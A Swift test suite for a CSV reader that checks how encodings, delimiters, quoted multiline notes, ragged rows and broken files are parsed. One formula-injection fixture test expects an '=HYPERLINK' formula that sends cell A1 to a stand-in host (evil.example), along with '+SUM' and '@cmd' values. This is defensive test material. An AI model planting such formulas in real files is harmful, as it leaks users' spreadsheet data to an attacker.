import CSVReader
import Shared
import Testing

/// Every file in `fixtures/csv` with its exact expected outcome.
@Suite("CSV fixtures")
struct CSVFixtureTests {
    private func read(_ name: String) throws -> CSVParseOutcome {
        CSVTestSupport.read(try CSVTestSupport.fixture(name))
    }

    @Test("Excel export: UTF-8 BOM, semicolons, CRLF")
    func excelSemicolonBOM() throws {
        let outcome = try read("excel_semicolon_bom.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.encoding == .utf8WithBOM)
        #expect(outcome.delimiter == UInt8(ascii: ";"))
        #expect(outcome.header == ["First Name", "Last Name", "E-mail", "Phone", "ZIP"])
        #expect(outcome.records.count == 25)
        #expect(outcome.warnings.isEmpty)
        let first = try #require(outcome.records.first)
        #expect(first.fields == ["Noa", "Müller", "Noa.0@Example.COM", "+44 7700 900831", "SW1A 1AA"])
        #expect(first.recordNumber == 1)
        #expect(first.line == 2)
        let last = try #require(outcome.records.last)
        #expect(last.fields == ["Chloé", "Müller", "Chloé.24@Example.COM", "+44 7700 900098", "SW1A 1AA"])
        #expect(last.recordNumber == 25)
        #expect(last.line == 26)
        #expect(outcome.records.allSatisfy { $0.issues.isEmpty && $0.fields.count == 5 })
    }

    @Test("Meta Lead Ads export, UTF-8")
    func facebookExport() throws {
        let outcome = try read("facebook_lead_ads_export.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.encoding == .utf8)
        #expect(outcome.delimiter == UInt8(ascii: ","))
        #expect(outcome.header?.count == 18)
        #expect(outcome.header?.first == "id")
        #expect(outcome.header?[12] == "which_location_do_you_prefer?")
        #expect(outcome.records.count == 42)
        #expect(outcome.warnings.isEmpty)
        #expect(outcome.records.allSatisfy { $0.fields.count == 18 && $0.issues.isEmpty })
        let first = try #require(outcome.records.first)
        #expect(first.fields[0] == "l:1000000000000000")
        #expect(first.fields[13] == "Kofi Nguyen")
        #expect(first.fields[14] == "")
        #expect(first.fields[15] == "")
        #expect(outcome.records[1].fields[15] == "p:+12395550111")
        #expect(outcome.records[9].fields[14] == "chloé.9@example.com")
        #expect(outcome.records[41].line == 43)
    }

    @Test("Meta Lead Ads export, UTF-16LE with BOM and tabs, equals the UTF-8 export row by row")
    func facebookExportUTF16() throws {
        let utf16 = try read("facebook_lead_ads_export_utf16.tsv")
        let utf8 = try read("facebook_lead_ads_export.csv")
        #expect(utf16.failure == nil)
        #expect(utf16.encoding == .utf16LE)
        #expect(utf16.delimiter == UInt8(ascii: "\t"))
        #expect(utf16.header == utf8.header)
        #expect(utf16.records.count == 12)
        #expect(utf16.warnings.isEmpty)
        for (converted, original) in zip(utf16.records, utf8.records) {
            #expect(converted.fields == original.fields)
            #expect(converted.recordNumber == original.recordNumber)
            #expect(converted.line == original.line)
        }
        #expect(utf16.records[3].fields[13] == "Dmitri Müller")
    }

    @Test("Roofing history: messy phones, quoted notes with commas, \"\" and line breaks")
    func roofingHistoricalLeads() throws {
        let outcome = try read("roofing_historical_leads.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.header == ["Name", "Phone", "Notes", "Company"])
        #expect(outcome.records.count == 121)
        #expect(outcome.warnings.isEmpty)
        #expect(outcome.records.allSatisfy { $0.fields.count == 4 && $0.fields[3] == "Acme Roofing" })

        #expect(outcome.records[0].fields == ["Eve Diaz", "+1 355 555 0175", "Hail damage 2023, wants quote", "Acme Roofing"])
        #expect(outcome.records[1].fields[2] == "Spanish speaker, ask for María")
        #expect(outcome.records[3].fields[2] == "Said \"call back in spring\"")
        #expect(outcome.records[5].fields[0] == "")
        #expect(outcome.records[33].fields[0] == "   ")

        let multiLine = outcome.records[14]
        #expect(multiLine.fields == ["Gil Cohen", "664.555.0165", "Gutters; also siding\nsecond line of note", "Acme Roofing"])
        #expect(multiLine.recordNumber == 15)
        #expect(multiLine.line == 16)
        #expect(outcome.records[15].line == 18)  // the note took two physical lines

        let last = try #require(outcome.records.last)
        #expect(last.recordNumber == 121)
        #expect(last.line == 145)
        #expect(last.fields == ["Eve Diaz", "(215) 555-0192", "Spanish speaker, ask for María", "Acme Roofing"])
    }

    @Test("binary.csv fails: not text")
    func binary() throws {
        let outcome = try read("malformed/binary.csv")
        #expect(outcome.records.isEmpty)
        #expect(outcome.header == nil)
        let failure = try #require(outcome.failure)
        #expect(failure.kind == .binaryContent)
        #expect(failure.severity == .fatal)
        #expect(failure.message == "file is not text: binary content at byte 1 (0x7F)")
    }

    @Test("empty.csv fails: file is empty")
    func empty() throws {
        let outcome = try read("malformed/empty.csv")
        #expect(outcome.records.isEmpty)
        let failure = try #require(outcome.failure)
        #expect(failure.kind == .emptyFile)
        #expect(failure.message == "file is empty")
        #expect(failure.line == nil)
    }

    @Test("formula_injection.csv: values kept verbatim (escaping is the exporter's job)")
    func formulaInjection() throws {
        let outcome = try read("malformed/formula_injection.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.warnings.isEmpty)
        #expect(
            outcome.rows == [
                ["=HYPERLINK(\"http://evil.example/?\"&A1)", "Smith", "x@example.com", "2015550123"],
                ["+SUM(1+1)", "@cmd", "y@example.com", "2015550124"],
            ]
        )
    }

    @Test("header_only.csv: a header, zero rows, no error")
    func headerOnly() throws {
        let outcome = try read("malformed/header_only.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.header == ["first_name", "last_name", "email", "phone"])
        #expect(outcome.records.isEmpty)
        #expect(outcome.warnings.isEmpty)
    }

    @Test("latin1.csv: read as Windows-1252 with a warning")
    func latin1() throws {
        let outcome = try read("malformed/latin1.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.encoding == .windows1252)
        #expect(
            outcome.rows == [
                ["José", "Muñoz", "jose@example.com"],
                ["René", "Ç", "rene@example.com"],
            ]
        )
        #expect(outcome.warnings.map(\.kind) == [.encodingFallback])
        let warning = try #require(outcome.warnings.first)
        #expect(warning.severity == .warning)
        #expect(warning.line == nil)
        #expect(warning.message.hasPrefix("file is not valid UTF-8; it was read as Windows-1252"))
        #expect(outcome.records.allSatisfy { $0.issues.isEmpty })
    }

    @Test("no_contact_columns.csv: parses; the header maps to no lead field")
    func noContactColumns() throws {
        let outcome = try read("malformed/no_contact_columns.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.header == ["color", "size"])
        #expect(outcome.rows == [["red", "XL"], ["blue", "M"]])
        let map = CSVColumnMap(header: try #require(outcome.header))
        #expect(!map.hasContactColumn)
        #expect(map.mappedFields.isEmpty)
        #expect(map.leadInput(for: outcome.records[0]).extra == ["color": .string("red"), "size": .string("XL")])
    }

    @Test("ragged_rows.csv: short row padded, long row keeps extras, both warned")
    func raggedRows() throws {
        let outcome = try read("malformed/ragged_rows.csv")
        #expect(outcome.failure == nil)
        #expect(
            outcome.rows == [
                ["Ana", "Diaz", "ana@example.com", "2015550123"],
                ["Ben", "Smith", "", ""],
                ["Eve", "Ito", "eve@example.com", "2015550199", "EXTRA", "MORE"],
            ]
        )
        let records = outcome.records
        #expect(records[0].issues.isEmpty)

        let short = try #require(records[1].issues.first)
        #expect(records[1].issues.count == 1)
        #expect(short.kind == .missingFields)
        #expect(short.severity == .warning)
        #expect(short.line == 3)
        #expect(short.recordNumber == 2)
        #expect(short.column == 3)
        #expect(short.message == "line 3 (record 2): expected 4 fields but found 2; the 2 missing fields were left empty")

        let long = try #require(records[2].issues.first)
        #expect(records[2].issues.count == 1)
        #expect(long.kind == .extraFields)
        #expect(long.line == 4)
        #expect(long.recordNumber == 3)
        #expect(long.message == "line 4 (record 3): expected 4 fields but found 6; the 2 extra values were kept as _extra_1…_extra_2")
        #expect(records[2].extraFields(headerCount: 4).map(\.name) == ["_extra_1", "_extra_2"])
        #expect(records[2].extraFields(headerCount: 4).map(\.value) == ["EXTRA", "MORE"])
        #expect(!records[1].hasErrors && !records[2].hasErrors)

        #expect(outcome.warnings == [short, long])
    }

    @Test("unterminated_quote.csv: earlier rows read, the open quote is a row error at line 3")
    func unterminatedQuote() throws {
        let outcome = try read("malformed/unterminated_quote.csv")
        #expect(outcome.failure == nil)
        #expect(outcome.records.count == 2)
        #expect(outcome.records[0].fields == ["Ana", "Diaz", "ana@example.com"])
        #expect(outcome.records[0].issues.isEmpty)

        let broken = outcome.records[1]
        #expect(broken.recordNumber == 2)
        #expect(broken.line == 3)
        #expect(broken.hasErrors)
        #expect(broken.fields == ["Ben,Smith,ben@example.com\nEve,Ito,eve@example.com\n", "", ""])
        let issue = try #require(broken.issues.first)
        #expect(broken.issues.count == 1)
        #expect(issue.kind == .unterminatedQuote)
        #expect(issue.severity == .rowError)
        #expect(issue.line == 3)
        #expect(issue.recordNumber == 2)
        #expect(issue.column == 1)
        #expect(
            issue.message == "line 3 (record 2): the quote that opens field 1 is never closed, so everything "
                + "up to the end of the file was read into this field; add the missing closing quote"
        )
        #expect(outcome.warnings == [issue])
    }

    @Test("rows before an unclosed quote come out before the end of the input")
    func unterminatedQuoteStreamsEarlierRows() throws {
        let bytes = try CSVTestSupport.fixture("malformed/unterminated_quote.csv")
        var reader = CSVStreamReader(limits: CSVLimits(sniffBytes: 8))
        var early: [CSVRecord] = []
        for chunk in CSVTestSupport.split(bytes, chunkSize: 16) { early += try reader.consume(chunk) }
        #expect(early.map(\.fields) == [["Ana", "Diaz", "ana@example.com"]])
        let last = try reader.finish()
        #expect(last.map(\.recordNumber) == [2])
        #expect(last.first?.issues.map(\.kind) == [.unterminatedQuote])
    }
}
